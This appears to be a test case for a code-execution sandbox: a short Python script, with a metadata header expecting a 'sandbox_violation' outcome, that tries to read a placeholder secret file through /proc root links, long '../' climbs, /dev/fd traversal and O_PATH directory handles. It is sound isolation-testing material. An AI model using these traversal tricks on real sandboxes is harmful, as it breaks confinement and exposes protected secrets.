# /// attack
# category = "secrets"
# kind = "stdio"
# success = "canary:FILE"
# expected = ["wrong_answer", "sandbox_violation"]
# summary = "Reaches a secret file by roundabout paths: process roots, relative climbs, doubled slashes."
# ///

import os

secret = "{SECRET_FILE}"
paths = [f"/proc/{who}/root{secret}" for who in ("self", "thread-self", "1", "{PARENT_PID}")]
paths.append("/" + secret)
paths.append("/proc/self/cwd/" + "../" * 20 + secret)
paths.append("../" * 40 + secret.lstrip("/"))
paths.append("/dev/fd/../../../.." + secret)
for path in paths:
    try:
        with open(path) as file:
            print(file.read())
    except OSError as error:
        print("blocked", type(error).__name__)
for path in (".", "/", "/usr", os.path.dirname(os.__file__)):
    try:
        folder = os.open(path, os.O_PATH | os.O_DIRECTORY)
        print(os.read(os.open("../" * 40 + secret.lstrip("/"), os.O_RDONLY, dir_fd=folder), 4096))
    except OSError as error:
        print("blocked", type(error).__name__)
